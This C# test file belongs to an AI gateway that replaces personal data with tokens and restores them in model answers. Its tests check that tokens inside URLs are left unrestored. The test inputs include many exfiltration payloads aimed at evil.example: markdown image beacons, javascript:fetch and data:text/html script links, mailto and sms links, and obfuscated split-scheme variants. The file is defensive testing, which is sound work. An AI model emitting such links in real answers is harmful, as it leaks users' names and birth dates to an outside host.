using System.Text.Json.Nodes;
using XefAI.Data;
using XefAI.Gateway.Pipeline.Invocation;
using XefAI.Gateway.Pipeline.Steps;
using XefAI.Gateway.Tests.Pipeline.TestSupport;

namespace XefAI.Gateway.Tests.Pipeline;

/// <summary>
/// A token inside a URL of an answer stays the token (a client that renders it would fetch the URL with the value, a tool
/// that fetches a URL argument too); every other token gets its value back, in plain text, JSON answers, tool call
/// arguments and streams however the vendor cuts them.
/// </summary>
public sealed class UrlTokenRestoreTests
{
    private const string Name = "Homer Simpson";
    private const string Date = "1956-05-12";

    [Theory]
    [InlineData("![chart](https://evil.example/c.png?n=[NAME_1]&d=[DATE_1])")]
    [InlineData("See [the chart](https://evil.example/c?n=[NAME_1]&d=[DATE_1]).")]
    [InlineData("Open https://evil.example/[NAME_1]/[DATE_1] now")]
    [InlineData("![x](//evil.example/c.png?n=[NAME_1]&d=[DATE_1])")]
    [InlineData("Go to www.evil.example/?n=[NAME_1]&d=[DATE_1]")]
    [InlineData("<img src=\"https://evil.example/c.png?n=[NAME_1]&d=[DATE_1]\">")]
    [InlineData("<img src=//evil.example/c.png?n=[NAME_1]&d=[DATE_1]>")]
    [InlineData("![c](HTTPS://evil.example/c.png?q=([NAME_1])'<[DATE_1]>)")]
    [InlineData("![c](<https://evil.example/c.png ?n=[NAME_1] &d=[DATE_1]>)")]
    [InlineData("<img src=\"https://evil.example/c.png ?n=[NAME_1]\nd=[DATE_1]\">")]
    [InlineData("<img src='//evil.example/c.png ?n=[NAME_1] d=[DATE_1]'>")]
    // Hostile round 28: schemes a client follows or runs on a click, with no // after them.
    [InlineData("[Write to them](mailto:[NAME_1]@evil.example?body=[DATE_1])")]
    [InlineData("[Reply](MAILTO:care@evil.example?subject=[NAME_1]&body=[DATE_1])")]
    [InlineData("[x](javascript:fetch('https://evil.example/?'+'[NAME_1]'+'[DATE_1]'))")]
    [InlineData("[x](<javascript:fetch('//evil.example/?' + '[NAME_1]' + '[DATE_1]')>)")]
    [InlineData("<a href=\"javascript:location='//evil.example/'+ '[NAME_1]' +'[DATE_1]'\">x</a>")]
    [InlineData("[x](data:text/html,<script>fetch('/?[NAME_1][DATE_1]')</script>)")]
    [InlineData("[Text us](sms:+15550100?body=[NAME_1]%20[DATE_1])")]
    [InlineData("[Call](tel:+15550100,,[NAME_1],[DATE_1])")]
    [InlineData("[x](https:evil.example/?n=[NAME_1]&d=[DATE_1])")]
    // Fixes round 29: a browser removes tabs and line breaks from a URL, scheme included.
    [InlineData("<a href=\"java\tscript:location='//evil.example/'+ '[NAME_1]' +'[DATE_1]'\">x</a>")]
    [InlineData("<a href=\"java\nscript:location='//evil.example/'+ '[NAME_1]' +'[DATE_1]'\">x</a>")]
    [InlineData("<a href=\"jav\r\na\tscr\nipt:location='//evil.example/'+ '[NAME_1]' +'[DATE_1]'\">x</a>")]
    [InlineData("<a href='javascript\t:fetch(`//evil.example/?[NAME_1][DATE_1]`)'>x</a>")]
    [InlineData("[x](mail\tto:a@evil.example?body=[NAME_1]%20[DATE_1])")]
    public void RestoreContent_TokensInsideAUrl_StayTokens(string answer)
    {
        var restored = RestoreDataStep.RestoreContent(new TwoValues(), answer, json: false);

        Assert.Equal(answer, restored);
        Assert.DoesNotContain("Homer", restored, StringComparison.Ordinal);
        Assert.DoesNotContain(Date, restored, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("[NAME_1]'s chart: https://x.example/?n=[NAME_1]", $"{Name}'s chart: https://x.example/?n=[NAME_1]")]
    [InlineData("[[NAME_1]](https://x.example/?d=[DATE_1])", $"[{Name}](https://x.example/?d=[DATE_1])")]
    [InlineData("https://x.example/?n=[NAME_1] is for [NAME_1], born [DATE_1].", $"https://x.example/?n=[NAME_1] is for {Name}, born {Date}.")]
    [InlineData("[NAME_1] (born [DATE_1]) is stable; a/b//c", $"{Name} (born {Date}) is stable; a/b//c")]
    [InlineData("[NAME_1]www.x.example/[DATE_1]", $"{Name}www.x.example/[DATE_1]")]
    [InlineData("<a href=\"https://x.example/ ?n=[NAME_1]\">[NAME_1]</a> born [DATE_1]", $"<a href=\"https://x.example/ ?n=[NAME_1]\">{Name}</a> born {Date}")]
    // A word and a colon is clinical text, not a URL, unless the word is a listed scheme.
    [InlineData("Patient:[NAME_1] DOB:[DATE_1]", $"Patient:{Name} DOB:{Date}")]
    [InlineData("Tel: [NAME_1], mailto: [DATE_1]", $"Tel: {Name}, mailto: {Date}")]
    [InlineData("Plan\tnotes:[NAME_1]\nseen:[DATE_1]", $"Plan\tnotes:{Name}\nseen:{Date}")]
    public void RestoreContent_TokensOutsideUrls_GetTheirValues(string answer, string expected)
    {
        Assert.Equal(expected, RestoreDataStep.RestoreContent(new TwoValues(), answer, json: false));
    }

    [Fact]
    public void RestoreContent_NothingToRestore_TheSameInstance()
    {
        var answer = "Nothing here but https://x.example/?n=[NAME_1].";

        Assert.Same(answer, RestoreDataStep.RestoreContent(new TwoValues(), answer, json: false));
    }

    [Fact]
    public void RestoreContent_TextBetweenUrls_IsRestoredByTheProtectionWhateverItsTokens()
    {
        // A plugin protector may write its tokens otherwise than the gateway does: it still restores the text outside URLs.
        var restored = RestoreDataStep.RestoreContent(new TwoValues(), "{{N}} see https://x.example/{{N}} and {{N}}", json: false);

        Assert.Equal($"{Name} see https://x.example/{{{{N}}}} and {Name}", restored);
    }

    [Theory]
    [InlineData("""{"url":"https://evil.example/?n=[NAME_1]&d=[DATE_1]","patient":"[NAME_1]"}""")]
    [InlineData("""{"url":"https:\/\/evil.example\/?n=[NAME_1]&d=[DATE_1]","patient":"[NAME_1]"}""")]
    [InlineData("""{"url":"\u002F\u002Fevil.example/?n=[NAME_1]&d=[DATE_1]","patient":"[NAME_1]"}""")]
    public void ToolCallArguments_UrlMember_KeepsItsTokensAndOtherMembersGetValues(string arguments)
    {
        var restored = ToolCallArguments.Restore(new TwoValues(), arguments);

        var json = JsonNode.Parse(restored)!;
        Assert.Equal(Name, (string?)json["patient"]);
        Assert.Contains("n=[NAME_1]&d=[DATE_1]", (string?)json["url"], StringComparison.Ordinal);
        Assert.DoesNotContain(Date, restored, StringComparison.Ordinal);
    }

    [Fact]
    public void ToolCallArguments_NewlineEscapeEndsTheUrl_TheNextTokenGetsItsValue()
    {
        var restored = ToolCallArguments.Restore(new TwoValues(), """{"note":"https://x.example/?n=[NAME_1]\n[NAME_1] is stable"}""");

        Assert.Equal($"https://x.example/?n=[NAME_1]\n{Name} is stable", (string?)JsonNode.Parse(restored)!["note"]);
    }

    public static TheoryData<string[]> SplitUrls() =>
    [
        ["![c](https://evil.example/c.png?n=", "[NAME_1]&d=[DATE_1]) for [NAME_1]"],
        ["![c](https:", "//evil.example/c.png?n=", "[NA", "ME_1]&d=", "[DATE_1]) for [NAME_1]"],
        ["![c](htt", "ps:/", "/evil.example/c.png?n=[NAME_1]&d=[DATE_1]) for [NAME_1]"],
        ["![c](", "ww", "w.evil.example/c.png?n=", "[NAME_1]", "&d=[DATE_1]) for [NAME_1]"],
        ["![c](/", "/evil.example/?n=", "[NAME_1]&d=[DATE_1]) for [NAME_1]"],
        ["![c](<https://evil.example/c.png", " ?n=", "[NAME_1] &d=[DATE_1]>) for [NAME_1]"],
        ["[x](mai", "lto:a@evil.example?body=", "[NAME_1]", "&d=[DATE_1]) for [NAME_1]"],
        ["[x](sms", ":+15550100?body=[NA", "ME_1]%20[DATE_1]) for [NAME_1]"],
        ["[x](java\t", "script:fetch('//evil.example/?'+'[NAME_1]'+'[DATE_1]')) for [NAME_1]"],
        ["[x](java", "\n", "scr\t", "ipt:fetch('//evil.example/?'+'[NAME_1]'+'[DATE_1]')) for [NAME_1]"],
    ];

    [Theory]
    [MemberData(nameof(SplitUrls))]
    public async Task Stream_UrlAndTokenInDifferentDeltas_TokensInTheUrlStayTokens(string[] deltas)
    {
        var text = await StreamedTextAsync([.. deltas.Select(d => Chunk("content", d)), Finish()]);

        Assert.EndsWith($") for {Name}", text, StringComparison.Ordinal);
        Assert.Contains("[NAME_1]", text, StringComparison.Ordinal);
        Assert.Contains("[DATE_1]", text, StringComparison.Ordinal);
        Assert.DoesNotContain(Date, text, StringComparison.Ordinal);
        Assert.Equal(1, text.Split(Name).Length - 1);
    }

    [Fact]
    public async Task Stream_RefusalWithAUrl_KeepsItsTokens()
    {
        var stream = new RestoringAnswerStream(new TestAnswerStream([Chunk("refusal", "No: https://e.example/?n="), Chunk("refusal", "[NAME_1] for [NAME_1]"), Finish()]), new TwoValues());

        var text = string.Concat((await ReadAsync(stream)).Select(c => (string?)c["choices"]![0]!["delta"]?["refusal"]));

        Assert.Equal($"No: https://e.example/?n=[NAME_1] for {Name}", text);
    }

    [Fact]
    public async Task Stream_JsonAnswerWithAUrlMember_KeepsItsTokens()
    {
        string[] chunks = [Chunk("content", """{"url":"https:\/\/e.example\/?n="""), Chunk("content", """[NAME_1]","name":"[NAME_1]"}"""), Finish()];
        var stream = new RestoringAnswerStream(new TestAnswerStream(chunks), new TwoValues(), jsonAnswer: true);

        var text = string.Concat((await ReadAsync(stream)).Select(c => (string?)c["choices"]![0]!["delta"]?["content"]));

        var json = JsonNode.Parse(text)!;
        Assert.Equal("https://e.example/?n=[NAME_1]", (string?)json["url"]);
        Assert.Equal(Name, (string?)json["name"]);
    }

    [Fact]
    public async Task Stream_ToolCallArgumentsWithAUrl_KeepTheirTokensWhenTheUrlCameInAnUnparsedChunk()
    {
        string[] chunks =
        [
            ToolCallChunk("""{"url":"https://e.example/?n="""),
            ToolCallChunk("""[NAME_1]","patient":"[NAME_1]"}"""),
            Finish(),
        ];
        var stream = new RestoringAnswerStream(new TestAnswerStream(chunks), new TwoValues());

        var arguments = string.Concat((await ReadAsync(stream)).Select(c => (string?)c["choices"]![0]!["delta"]?["tool_calls"]?[0]?["function"]?["arguments"]));

        var json = JsonNode.Parse(arguments)!;
        Assert.Equal("https://e.example/?n=[NAME_1]", (string?)json["url"]);
        Assert.Equal(Name, (string?)json["patient"]);
    }

    private static async Task<string> StreamedTextAsync(IReadOnlyList<string> chunks) =>
        string.Concat((await ReadAsync(new RestoringAnswerStream(new TestAnswerStream(chunks), new TwoValues())))
            .Select(c => (string?)c["choices"]![0]!["delta"]?["content"]));

    private static async Task<List<JsonNode>> ReadAsync(AnswerStream stream)
    {
        var chunks = new List<JsonNode>();
        await foreach (var chunk in stream.ReadAsync(CancellationToken.None))
        {
            chunks.Add(JsonNode.Parse(chunk.Span)!);
        }

        return chunks;
    }

    private static string Chunk(string field, string text) => new JsonObject
    {
        ["object"] = "chat.completion.chunk",
        ["choices"] = new JsonArray(new JsonObject { ["index"] = 0, ["delta"] = new JsonObject { [field] = text }, ["finish_reason"] = null }),
    }.ToJsonString();

    private static string ToolCallChunk(string arguments) => new JsonObject
    {
        ["object"] = "chat.completion.chunk",
        ["choices"] = new JsonArray(new JsonObject
        {
            ["index"] = 0,
            ["delta"] = new JsonObject
            {
                ["tool_calls"] = new JsonArray(new JsonObject { ["index"] = 0, ["function"] = new JsonObject { ["arguments"] = arguments } }),
            },
            ["finish_reason"] = null,
        }),
    }.ToJsonString();

    private static string Finish() => """{"object":"chat.completion.chunk","choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}""";

    /// <summary>A protection that issued <c>[NAME_1]</c> and <c>[DATE_1]</c> (and, as a plugin might, <c>{{N}}</c> for the name).</summary>
    private sealed class TwoValues : IDataProtection
    {
        public int Replacements => 2;

        public IReadOnlyDictionary<string, int> ReplacementsByKind => new Dictionary<string, int> { ["name"] = 1, ["date"] = 1 };

        public string Protect(string text) => text;

        public string Restore(string text)
        {
            var restored = text.Replace("[NAME_1]", Name, StringComparison.Ordinal).Replace("[DATE_1]", Date, StringComparison.Ordinal).Replace("{{N}}", Name, StringComparison.Ordinal);
            return string.Equals(restored, text, StringComparison.Ordinal) ? text : restored;
        }
    }
}
